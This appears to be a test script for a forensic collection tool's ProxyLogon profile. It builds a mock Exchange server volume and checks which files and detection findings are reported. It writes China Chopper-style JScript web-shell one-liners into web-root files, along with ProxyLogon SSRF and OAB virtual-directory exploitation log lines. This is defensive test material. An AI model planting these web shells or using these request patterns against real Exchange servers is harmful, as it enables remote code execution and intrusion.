# The embedded exchange-proxylogon profile on an Exchange-like Windows system volume built
# here: benign and malicious HttpProxy, ECP and OAB generator log lines, an Application.evtx
# with the CVE-2021-26857 strings in UTF-16LE, inert web-shell text (China Chopper one-liners,
# the OAB virtual-directory dump, in ASCII and UTF-16LE), stock and non-stock owa/auth files,
# dumps, archives around the 2021-02-25 cut-off, and files that must be left out (mailbox
# databases and their logs, unrelated files). Asserts exactly what is collected and exactly
# which findings appear (rule, path, line), and that benign lines raise none.
#
# Then, where the machine allows (root, /dev/fuse, mkntfs, ntfs-3g), the same tree on a real
# NTFS volume (an image file formatted with mkntfs, mounted with ntfs-3g), with creation times
# set through system.ntfs_crtime_be: "created or modified on or after 2021-02-25" then uses
# the NTFS creation time, and the entries say so.
source "$(dirname "$0")/lib.sh"

EX="Program Files/Microsoft/Exchange Server/V15"

# build_volume DIR: the Exchange-like tree. mtimes are set; birth times are whatever the file
# system gives (set_crtimes sets them on NTFS).
build_volume() {
    local R=$1
    local L="$R/$EX/Logging"
    mkdir -p "$L/HttpProxy/Ecp" "$L/HttpProxy/Owa" "$L/ECP/Server" "$L/OABGeneratorLog" \
        "$L/Monitoring" "$R/$EX/Mailbox/Mailbox Database 01" \
        "$R/$EX/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes" "$R/$EX/FrontEnd/HttpProxy/ecp/auth" \
        "$R/inetpub/logs/LogFiles/W3SVC1" "$R/inetpub/wwwroot/aspnet_client/system_web/4_0_30319" \
        "$R/Windows/System32/LogFiles/HTTPERR" "$R/Windows/System32/winevt/Logs" \
        "$R/Windows/System32/config/RegBack" "$R/Windows/System32/inetsrv/config" \
        "$R/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1a2b3c" \
        "$R/Windows/Temp" "$R/ProgramData" "$R/Users/x" "$R/root"
    local H='#Fields: DateTime,RequestId,ClientIpAddress,UrlHost,UrlStem,AnchorMailbox,HttpStatus'
    printf '%s\r\n' "$H" \
        '2021-03-02T01:00:00.000Z,r1,203.0.113.7,exch01,/ecp/y.js,ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/GetList?#,200' \
        '2021-03-02T01:00:01.000Z,r2,203.0.113.7,exch01,/ecp/y.js,ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#,200' \
        '2021-03-02T01:00:02.000Z,r3,203.0.113.7,exch01,/ecp/y.js,ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#,500' \
        '2021-03-02T01:00:03.000Z,r4,10.0.0.5,exch01,/ecp/,ServerInfo~exch01.contoso.local/autodiscover/autodiscover.xml,200' \
        '2021-03-02T01:00:04.000Z,r5,10.0.0.5,exch01,/ecp/,ServerInfo~localhost:444/ecp/default.aspx,200' \
        '2021-03-02T01:00:05.000Z,r6,10.0.0.6,exch01,/ecp/,alice@contoso.com,200' \
        > "$L/HttpProxy/Ecp/HttpProxy_2021030201-1.LOG"
    printf '%s\r\n' "$H" \
        '2021-03-02T02:00:00.000Z,o1,203.0.113.7,exch01,/owa/auth/x.js,SERVERINFO~b]@exch01.contoso.local:444/mapi/emsmdb/?#,241' \
        '2021-03-02T02:00:01.000Z,o2,10.0.0.6,exch01,/owa/,bob@contoso.com,200' \
        > "$L/HttpProxy/Owa/HttpProxy_2021030202-1.LOG"
    printf '%s\r\n' \
        '2021-03-02T03:00:00.000Z,S:CMD=Set-OabVirtualDirectory.ExternalUrl='"'"'https://mail.contoso.com/OAB'"'"'.Identity='"'"'OAB VirtualDirectory'"'"'' \
        '2021-03-02T03:00:05.000Z,S:CMD=Set-OabVirtualDirectory.ExternalUrl='"'"'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>'"'"'.Identity='"'"'OAB VirtualDirectory'"'"'' \
        > "$L/ECP/Server/ECPServer2021030203-1.LOG"
    printf '%s\r\n' \
        '2021-03-02T04:00:00.000Z,Download failed and temporary file '"'"'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\oab1.tmp'"'"' needs to be removed' \
        '2021-03-02T04:00:01.000Z,Download failed and temporary file '"'"'C:\inetpub\wwwroot\aspnet_client\shell.aspx'"'"' needs to be removed' \
        '2021-03-02T04:00:02.000Z,OAB generation completed' \
        > "$L/OABGeneratorLog/OABGeneratorLog_2021030204-1.LOG"
    echo 'monitoring ok' > "$L/Monitoring/probe.log"
    echo 'EDB' > "$R/$EX/Mailbox/Mailbox Database 01/Mailbox Database 01.edb"
    echo 'txlog' > "$R/$EX/Mailbox/Mailbox Database 01/E00.log"
    echo '2021-03-02 01:00:00 10.0.0.1 POST /ecp/y.js - 443 - 203.0.113.7 ExchangeServicesClient/0.0.0.0 - 200' \
        > "$R/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log"
    echo 'httperr' > "$R/Windows/System32/LogFiles/HTTPERR/httperr1.log"
    # Application.evtx: binary noise around the two UTF-16LE strings.
    $PY - "$R/Windows/System32/winevt/Logs" <<'PYEOF'
import os, sys
d = sys.argv[1]
noise = bytes(range(256)) * 300
u = lambda s: s.encode('utf-16-le')
open(os.path.join(d, 'Application.evtx'), 'wb').write(
    b'ElfFile\x00' + noise + u('MSExchange Unified Messaging') + noise[:777] +
    u('System.InvalidCastException: Unable to cast object') + noise)
open(os.path.join(d, 'System.evtx'), 'wb').write(
    b'ElfFile\x00' + noise + u('MSExchange Unified Messaging') + noise)
PYEOF
    for h in SAM SECURITY SOFTWARE SYSTEM DEFAULT; do echo "regf $h" > "$R/Windows/System32/config/$h"; done
    echo 'regf backup' > "$R/Windows/System32/config/RegBack/SAM"
    echo '<configuration/>' > "$R/Windows/System32/inetsrv/config/applicationHost.config"
    echo '<configuration/>' > "$R/inetpub/wwwroot/web.config"
    echo '<% Response.Write("evaluation of Request forms"); %>' > "$R/inetpub/wwwroot/default.aspx"
    printf '<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>\n' \
        > "$R/inetpub/wwwroot/aspnet_client/discover.aspx"
    printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["p"],"unsafe");%%>\n' \
        > "$R/inetpub/wwwroot/aspnet_client/system_web/log.aspx"
    echo 'readme' > "$R/inetpub/wwwroot/aspnet_client/readme.txt"
    # The OAB virtual-directory dump (ASCII), written into the web root by the exploit.
    printf 'Name : OAB (Default Web Site)\r\nPollInterval : 480\r\nOfflineAddressBooks : \r\nRequireSSL : True\r\nBasicAuthentication : False\r\nWindowsAuthentication : True\r\nOAuthAuthentication : False\r\nInternalAuthenticationMethods : {WindowsIntegrated}\r\nExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["q"],"unsafe");}</script>\r\nExtendedProtectionTokenChecking : None\r\n' \
        > "$R/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/oabdump.aspx"
    # The same dump in UTF-16LE under a typo-squatted name in owa/auth (not a stock name).
    $PY - "$R/$EX/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx" <<'PYEOF'
import sys
t = ('Name : OAB (Default Web Site)\r\nInternalAuthenticationMethods : {WindowsIntegrated}\r\n'
     'ExternalUrl : http://g/<script language="JScript" runat="server">function Page_Load()'
     '{eval(Request["k"],"unsafe");}</script>\r\nExtendedProtectionTokenChecking : None\r\n')
open(sys.argv[1], 'wb').write(b'\xff\xfe' + t.encode('utf-16-le'))
PYEOF
    local A="$R/$EX/FrontEnd/HttpProxy"
    echo '<%@ Page Language="C#" %> stock logon page' > "$A/owa/auth/logon.aspx"
    echo '<%@ Page Language="C#" %> stock error page' > "$A/owa/auth/errorFE.aspx"
    echo '<configuration/>' > "$A/owa/auth/web.config"
    echo 'png' > "$A/owa/auth/15.1.2176/themes/logo.png"
    echo '<%@ Page %> stock' > "$A/ecp/auth/TimeoutLogout.aspx"
    echo '<%@ Page %> not a stock name, no signature' > "$A/ecp/auth/x.aspx"
    echo 'MZ compiled page' > "$R/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1a2b3c/App_Web_xyz.dll"
    # Dumps and archives around the cut-off (mtime).
    mk() { printf 'data %s\n' "$1" > "$R/$1"; touch -d "$2" "$R/$1"; }
    mk Windows/Temp/lsass.dmp    '2021-03-03 10:00:00 UTC'
    mk root/lsass_old.DMP         '2020-06-01 00:00:00 UTC'
    mk ProgramData/out.ZIP        '2021-03-02 10:00:00 UTC'
    mk Users/x/backup.7z          '2021-02-25 00:00:00 UTC'
    mk Users/x/old.rar            '2021-02-24 23:59:59 UTC'
    mk Users/x/created-late.zip   '2020-06-01 00:00:00 UTC'
    mk Users/x/notes.txt          '2021-03-01 12:00:00 UTC'
}

# set_crtimes DIR: NTFS creation times (system.ntfs_crtime_be, 100 ns since 1601).
set_crtimes() {
    $PY - "$1" <<'PYEOF'
import os, struct, sys, calendar
r = sys.argv[1]
def crt(p, when):
    t = calendar.timegm(when)
    os.setxattr(os.path.join(r, p), 'system.ntfs_crtime_be', struct.pack('>Q', (t + 11644473600) * 10**7))
crt('Windows/Temp/lsass.dmp',  (2021, 3, 3, 10, 0, 0))
crt('root/lsass_old.DMP',      (2020, 6, 1, 0, 0, 0))
crt('ProgramData/out.ZIP',     (2021, 3, 2, 10, 0, 0))
crt('Users/x/backup.7z',       (2021, 2, 25, 0, 0, 0))
crt('Users/x/old.rar',         (2021, 2, 24, 23, 59, 59))   # decoy: created and modified before
crt('Users/x/created-late.zip', (2021, 3, 1, 0, 0, 0))      # old mtime, created after the cut-off
PYEOF
}

# run_profile ROOT OUT: collect with exchange-proxylogon; sets MF, and the lists below.
run_profile() {
    collect --root "$1" --profile exchange-proxylogon --out "$2"
    check "collect exits 0 [$(tail -n 3 "$W/collect.err" | tr '\n' ' ')]" [ "$RC" -eq 0 ]
    unpack "$ARCHIVE" "$2/x"
    check "the manifest validates against the schema" "$PY" "$CUSTODY_SRC/tests/tools/validate_manifest.py" "$SCHEMA" "$MF"
    COLLECTED=$(jq -r '.entries[] | select(.member != null and .path != "collection.log") | .path' "$MF" | sort)
    FINDINGS=$(jq -r '.findings[] | "\(.rule) \(.path)\(if .line then ":\(.line)" else "" end)"' "$MF" | sort)
}

# expect_set NAME GOT WANT: exact set comparison with a diff on failure.
expect_set() {
    if [ "$2" = "$3" ]; then ok "$1"; else
        fail "$1"; diff <(echo "$3") <(echo "$2") >&2 || true
    fi
}

V=/$EX
COMMON_COLLECTED=$(sort <<EOF
/$EX/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx
/$EX/FrontEnd/HttpProxy/ecp/auth/x.aspx
/$EX/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/logo.png
/$EX/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx
/$EX/FrontEnd/HttpProxy/owa/auth/errorFE.aspx
/$EX/FrontEnd/HttpProxy/owa/auth/logon.aspx
/$EX/FrontEnd/HttpProxy/owa/auth/web.config
/$EX/Logging/ECP/Server/ECPServer2021030203-1.LOG
/$EX/Logging/HttpProxy/Ecp/HttpProxy_2021030201-1.LOG
/$EX/Logging/HttpProxy/Owa/HttpProxy_2021030202-1.LOG
/$EX/Logging/Monitoring/probe.log
/$EX/Logging/OABGeneratorLog/OABGeneratorLog_2021030204-1.LOG
/ProgramData/out.ZIP
/Users/x/backup.7z
/Users/x/created-late.zip
/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1a2b3c/App_Web_xyz.dll
/Windows/System32/LogFiles/HTTPERR/httperr1.log
/Windows/System32/config/SAM
/Windows/System32/config/SECURITY
/Windows/System32/config/SOFTWARE
/Windows/System32/config/SYSTEM
/Windows/System32/inetsrv/config/applicationHost.config
/Windows/System32/winevt/Logs/Application.evtx
/Windows/System32/winevt/Logs/System.evtx
/Windows/Temp/lsass.dmp
/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log
/inetpub/wwwroot/aspnet_client/discover.aspx
/inetpub/wwwroot/aspnet_client/readme.txt
/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/oabdump.aspx
/inetpub/wwwroot/aspnet_client/system_web/log.aspx
/inetpub/wwwroot/default.aspx
/inetpub/wwwroot/web.config
/root/lsass_old.DMP
EOF
)
COMMON_FINDINGS=$(sort <<EOF
cve-2021-26855 $V/Logging/HttpProxy/Ecp/HttpProxy_2021030201-1.LOG:2
cve-2021-26855 $V/Logging/HttpProxy/Ecp/HttpProxy_2021030201-1.LOG:3
cve-2021-26855 $V/Logging/HttpProxy/Ecp/HttpProxy_2021030201-1.LOG:4
cve-2021-26855 $V/Logging/HttpProxy/Owa/HttpProxy_2021030202-1.LOG:2
cve-2021-27065-proxy $V/Logging/HttpProxy/Ecp/HttpProxy_2021030201-1.LOG:3
cve-2021-27065-ecp $V/Logging/ECP/Server/ECPServer2021030203-1.LOG:2
cve-2021-26858 $V/Logging/OABGeneratorLog/OABGeneratorLog_2021030204-1.LOG:2
cve-2021-26857 /Windows/System32/winevt/Logs/Application.evtx
aspnet-client-aspx /inetpub/wwwroot/aspnet_client/discover.aspx
aspnet-client-aspx /inetpub/wwwroot/aspnet_client/system_web/4_0_30319/oabdump.aspx
aspnet-client-aspx /inetpub/wwwroot/aspnet_client/system_web/log.aspx
webshell-chopper /inetpub/wwwroot/aspnet_client/discover.aspx
webshell-chopper /inetpub/wwwroot/aspnet_client/system_web/4_0_30319/oabdump.aspx
webshell-chopper /inetpub/wwwroot/aspnet_client/system_web/log.aspx
webshell-chopper $V/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx
webshell-oab-dump /inetpub/wwwroot/aspnet_client/system_web/4_0_30319/oabdump.aspx
webshell-oab-dump $V/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx
owa-ecp-auth-not-stock $V/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx
owa-ecp-auth-not-stock $V/FrontEnd/HttpProxy/ecp/auth/x.aspx
lsass-dumps /Windows/Temp/lsass.dmp
lsass-dumps /root/lsass_old.DMP
archives-dumps-since /ProgramData/out.ZIP
archives-dumps-since /Users/x/backup.7z
archives-dumps-since /Windows/Temp/lsass.dmp
EOF
)

# ---- 1. the tree on the test's own file system ------------------------------------------
R=$W/vol
build_volume "$R"
run_profile "$R" "$W/out"
# Here every file was created just now: "created or modified on or after 2021-02-25" holds
# for all of them through the birth time (where the file system records one), decoys too.
if jq -e '.entries[] | select(.path == "/Users/x/old.rar") | .btime != null' "$MF" >/dev/null; then
    want_c=$(printf '%s\n/Users/x/old.rar\n' "$COMMON_COLLECTED" | sort)
    want_f=$(printf '%s\narchives-dumps-since /Users/x/created-late.zip\narchives-dumps-since /Users/x/old.rar\narchives-dumps-since /root/lsass_old.DMP\n' "$COMMON_FINDINGS" | sort)
    check "an archive modified before the cut-off but born after it is selected on its birth time" \
        jq -e '.entries[] | select(.path == "/Users/x/old.rar") | .time_used == "btime" and .btime_source == "statx"' "$MF"
else
    # No birth time here: mtime decides; created-late.zip (old mtime) is then not selected by
    # the window, only... nothing else selects it.
    want_c=$(grep -v '^/Users/x/created-late.zip$' <<< "$COMMON_COLLECTED")
    want_f=$COMMON_FINDINGS
fi
expect_set "exactly the expected files are collected" "$COLLECTED" "$want_c"
expect_set "exactly the expected findings appear (rule path:line)" "$FINDINGS" "$want_f"
check "mailbox databases and transaction logs are not collected" \
    bash -c "! grep -q '/Mailbox/' <<< \"\$1\"" _ "$COLLECTED"
check "nothing of the benign log lines raises a finding (autodiscover, localhost, users)" \
    bash -c "! jq -r '.findings[].excerpt // empty' '$MF' | grep -Eq 'autodiscover|localhost|alice@|bob@|ClientAccess.OAB|completed'"
check "a line finding carries the bounded line as its excerpt" \
    jq -e '[.findings[] | select(.rule == "cve-2021-27065-proxy")][0].excerpt | test("ResetOABVirtualDirectory#,200$")' "$MF"
check "a content finding says what matched and where" \
    jq -e '[.findings[] | select(.rule == "cve-2021-26857")][0].excerpt | test("MSExchange Unified Messaging.*ending at byte [0-9]+; .System.InvalidCastException")' "$MF"
check "findings carry the rule's description (citing the source)" \
    jq -e '[.findings[] | select(.rule == "cve-2021-26855")][0].description | test("Test-ProxyLogon")' "$MF"
check "summary counts findings per rule" \
    jq -e '.summary.findings_by_rule["cve-2021-26855"] == 4 and .summary.findings_by_rule["webshell-chopper"] == 4' "$MF"
check "stderr ends with a short findings summary" \
    bash -c "tail -n 1 '$W/collect.err' | grep -Eq '^custody: [0-9]+ findings: .*cve-2021-26855 4'"
check "registry backups and DEFAULT are not collected" \
    bash -c "! grep -Eq 'RegBack|config/DEFAULT' <<< \"\$1\"" _ "$COLLECTED"
check "the profile name is recorded" jq -e '.collection.profile.name == "exchange-proxylogon"' "$MF"
# The flagged files' bytes are in the archive: check one against sha256sum.
f=inetpub/wwwroot/aspnet_client/discover.aspx
check "a flagged web shell is in the archive with the digest of the original" \
    [ "$(sha256sum < "$W/out/x/$STEM/fs/$f" | cut -d' ' -f1)" = "$(sha256sum < "$R/$f" | cut -d' ' -f1)" ]
# --set moves the window and the Exchange root.
"$CUSTODY" collect --root "$R" --profile exchange-proxylogon --set since=2031-01-01 --dry-run > "$W/plan"
check "--set since=2031-01-01 selects no archive by the window" \
    bash -c "! grep -P '\tarchives-dumps-since' '$W/plan' | grep -q ."
mkdir -p "$W/vol2/Exch/Logging/HttpProxy/Owa"
cp "$R/$EX/Logging/HttpProxy/Owa/HttpProxy_2021030202-1.LOG" "$W/vol2/Exch/Logging/HttpProxy/Owa/"
collect --root "$W/vol2" --profile exchange-proxylogon --set exchange_root=Exch --out "$W/out2"
unpack "$ARCHIVE" "$W/out2/x"
check "--set exchange_root moves the Exchange rules" \
    jq -e '[.findings[] | select(.rule == "cve-2021-26855")] | length == 1' "$MF"

# ---- 2. the same tree on a real NTFS volume (ntfs-3g) -------------------------------------
ntfs_reason=""
[ "$(id -u)" -eq 0 ] || ntfs_reason="not root"
[ -z "$ntfs_reason" ] && { [ -c /dev/fuse ] || ntfs_reason="no /dev/fuse"; }
[ -z "$ntfs_reason" ] && { command -v mkntfs >/dev/null && command -v ntfs-3g >/dev/null || ntfs_reason="mkntfs/ntfs-3g not installed"; }
if [ -n "$ntfs_reason" ]; then
    echo "SKIP (part 2 only): NTFS volume test: $ntfs_reason"
    finish
    exit
fi
IMG=$W/ntfs.img
MNT=$W/mnt
truncate -s 64M "$IMG"
mkntfs -F -Q -q "$IMG" >/dev/null 2>&1
mkdir -p "$MNT"
if ! ntfs-3g "$IMG" "$MNT" 2>"$W/mount.err"; then
    echo "SKIP (part 2 only): ntfs-3g could not mount: $(cat "$W/mount.err")"
    finish
    exit
fi
trap 'umount "$MNT" 2>/dev/null || true' EXIT
build_volume "$MNT"
set_crtimes "$MNT"
check "the volume is a FUSE (ntfs-3g) mount" bash -c "[ \"\$(stat -f -c %T '$MNT')\" = fuseblk ] || stat -f -c %T '$MNT' | grep -q fuse"
run_profile "$MNT" "$W/outn"
want_f=$(printf '%s\narchives-dumps-since /Users/x/created-late.zip\n' "$COMMON_FINDINGS" | sort)
expect_set "NTFS: exactly the expected files are collected (the decoy is left out)" "$COLLECTED" "$COMMON_COLLECTED"
expect_set "NTFS: exactly the expected findings appear" "$FINDINGS" "$want_f"
check "NTFS: the birth time is the NTFS creation time, and the entry says so" \
    jq -e '.entries[] | select(.path == "/Users/x/created-late.zip") | .btime == "2021-03-01T00:00:00.000000000Z" and .btime_source == "ntfs-crtime" and .time_used == "btime"' "$MF"
check "NTFS: an archive modified after the cut-off is selected on its mtime" \
    jq -e '.entries[] | select(.path == "/ProgramData/out.ZIP") | .time_used == "mtime"' "$MF"
check "NTFS: the decoy created and modified one second before the cut-off is left out" \
    bash -c "! jq -e '.entries[] | select(.path == \"/Users/x/old.rar\")' '$MF' >/dev/null"
umount "$MNT"
trap - EXIT
finish
